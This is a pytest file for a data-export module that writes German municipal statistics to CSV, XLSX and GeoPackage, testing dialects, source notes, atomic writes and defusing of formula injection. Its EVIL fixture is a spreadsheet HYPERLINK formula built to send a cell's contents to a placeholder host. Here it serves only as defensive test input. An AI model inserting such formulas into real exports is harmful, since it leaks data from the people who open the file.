"""Exports: CSV in both dialects read back by pandas, XLSX without formula injection, GeoPackage
with its source note; atomic writes (main's module, the cases test_compare_exports.py does not cover)."""

from __future__ import annotations

import sqlite3
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from wandel.errors import ExportError, WandelError
from wandel.reports.exports import (
    SOURCES_SHEET,
    SOURCES_TABLE,
    defuse,
    source_note_path,
    write_csv,
    write_gpkg,
    write_xlsx,
)

NOTE = "Quelle: Statistische Ämter des Bundes und der Länder, dl-de/by-2-0\n© GeoBasis-DE / BKG"
EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Hettstedt")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "zone": ["15087220", "15087130", "15087370"],
            "name": ["Hettstedt", EVIL, "Sangerhausen; Stadt"],
            "einwohner": [13885, 22979, 26311],
            "anteil_65plus": [0.3125, 0.2875, np.nan],
            "veraenderung": [-1234.5, -17.25, 3.0],
        }
    )


@pytest.mark.parametrize(
    ("dialect", "sep", "decimal", "bom"), [("de", ";", ",", True), ("rfc", ",", ".", False)]
)
def test_csv_reads_back_with_pandas(
    tmp_path: Path, frame: pd.DataFrame, dialect: str, sep: str, decimal: str, bom: bool
) -> None:
    path, note = write_csv(frame, tmp_path / "t.csv", dialect=dialect, source_note=NOTE)  # type: ignore[arg-type]
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") is bom
    assert raw.count(b"\r\n") == 4  # header + 3 rows, CRLF
    back = pd.read_csv(path, sep=sep, decimal=decimal, dtype={"zone": str})
    assert back.columns.tolist() == frame.columns.tolist()  # the BOM does not stick to "zone"
    assert back["zone"].tolist() == frame["zone"].tolist()
    assert back["einwohner"].tolist() == [13885, 22979, 26311]
    np.testing.assert_allclose(back["veraenderung"], [-1234.5, -17.25, 3.0])  # numbers untouched
    assert back["anteil_65plus"].iloc[0] == pytest.approx(0.3125)
    assert np.isnan(back["anteil_65plus"].iloc[2])
    # the separator inside a name is quoted, the formula-like name defused
    assert back["name"].tolist() == ["Hettstedt", "'" + EVIL, "Sangerhausen; Stadt"]
    assert note == source_note_path(path)
    assert note.read_text(encoding="utf-8") == NOTE + "\n"


def test_csv_german_numbers_use_the_decimal_comma(tmp_path: Path) -> None:
    f = pd.DataFrame({"a": [1.5, -0.25]})
    path, _ = write_csv(f, tmp_path / "de.csv", source_note=NOTE)
    assert path.read_bytes().decode("utf-8-sig") == "a\r\n1,5\r\n-0,25\r\n"
    path, _ = write_csv(f, tmp_path / "rfc.csv", dialect="rfc", source_note=NOTE)
    assert path.read_bytes().decode("utf-8") == "a\r\n1.5\r\n-0.25\r\n"


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_defuse_every_formula_prefix(text: str) -> None:
    assert defuse(text) == "'" + text


def test_xlsx_writes_no_formula(tmp_path: Path, frame: pd.DataFrame) -> None:
    path = write_xlsx({"Daten": frame}, tmp_path / "t.xlsx", source_note=NOTE)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode() for n in sheets)
    assert "<f>" not in xml
    assert "<f " not in xml
    wb = openpyxl.load_workbook(path)
    ws = wb["Daten"]
    assert [c.value for c in ws[1]] == frame.columns.tolist()
    evil = ws.cell(row=3, column=2)
    assert evil.data_type == "s"
    assert evil.value == "'" + EVIL
    assert ws.cell(row=2, column=3).value == 13885  # numbers stay numbers
    assert ws.cell(row=2, column=5).value == pytest.approx(-1234.5)
    assert ws.cell(row=4, column=4).value is None  # NaN is an empty cell
    src = wb[SOURCES_SHEET]
    assert [r[0].value for r in src.iter_rows(min_row=2)] == NOTE.splitlines()
    assert wb.sheetnames == ["Daten", SOURCES_SHEET]


@pytest.mark.parametrize("name", ["", "a" * 32, "a/b", "x[1]", "quellen"])
def test_xlsx_refuses_bad_sheet_names(tmp_path: Path, frame: pd.DataFrame, name: str) -> None:
    with pytest.raises(ExportError, match="sheet name"):
        write_xlsx({name: frame}, tmp_path / "t.xlsx", source_note=NOTE)
    assert not list(tmp_path.iterdir())  # nothing written, no temporary file left


def test_empty_source_note_is_refused(tmp_path: Path, frame: pd.DataFrame) -> None:
    with pytest.raises(ExportError, match="source note"):
        write_csv(frame, tmp_path / "t.csv", source_note="  ")
    assert issubclass(ExportError, WandelError)
    assert issubclass(ExportError, ValueError)


def test_failed_write_leaves_the_old_file(tmp_path: Path, frame: pd.DataFrame) -> None:
    target = tmp_path / "t.xlsx"
    write_xlsx({"Daten": frame}, target, source_note=NOTE)
    before = target.read_bytes()

    class Boom:
        def __str__(self) -> str:
            raise RuntimeError("cannot render")

    bad = frame.assign(name=[Boom(), "x", "y"])
    with pytest.raises(RuntimeError, match="cannot render"):
        write_xlsx({"Daten": bad}, target, source_note=NOTE)
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]


def _zones() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"zone": ["15087220", "15087130"], "name": ["Hettstedt", EVIL], "einwohner": [13885, 1]},
        geometry=[shapely.box(0, 0, 1000, 1000), shapely.box(1000, 0, 3000, 1000)],
        crs="EPSG:25832",
    )


def test_gpkg_layer_and_sources(tmp_path: Path) -> None:
    path = write_gpkg(_zones(), tmp_path / "z.gpkg", layer="zonen", source_note=NOTE)
    layers = {str(n) for n, _ in pyogrio.list_layers(path)}
    assert layers == {"zonen", SOURCES_TABLE}
    back = pyogrio.read_dataframe(path, layer="zonen")
    assert back["zone"].tolist() == ["15087220", "15087130"]
    assert back.crs.to_epsg() == 25832
    np.testing.assert_allclose(back.geometry.area, [1e6, 2e6])
    src = pyogrio.read_dataframe(path, layer=SOURCES_TABLE, read_geometry=False)
    assert src["quelle"].tolist() == NOTE.splitlines()
    with sqlite3.connect(path) as con:
        (desc,) = con.execute(
            "SELECT description FROM gpkg_contents WHERE table_name = 'zonen'"
        ).fetchone()
    assert desc == NOTE


def test_gpkg_needs_geometry_and_crs(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="GeoDataFrame"):
        write_gpkg(pd.DataFrame({"a": [1]}), tmp_path / "x.gpkg", layer="a", source_note=NOTE)
    with pytest.raises(ExportError, match="reference system"):
        write_gpkg(
            _zones().set_crs(None, allow_override=True),
            tmp_path / "x.gpkg",
            layer="a",
            source_note=NOTE,
        )
    assert not list(tmp_path.iterdir())
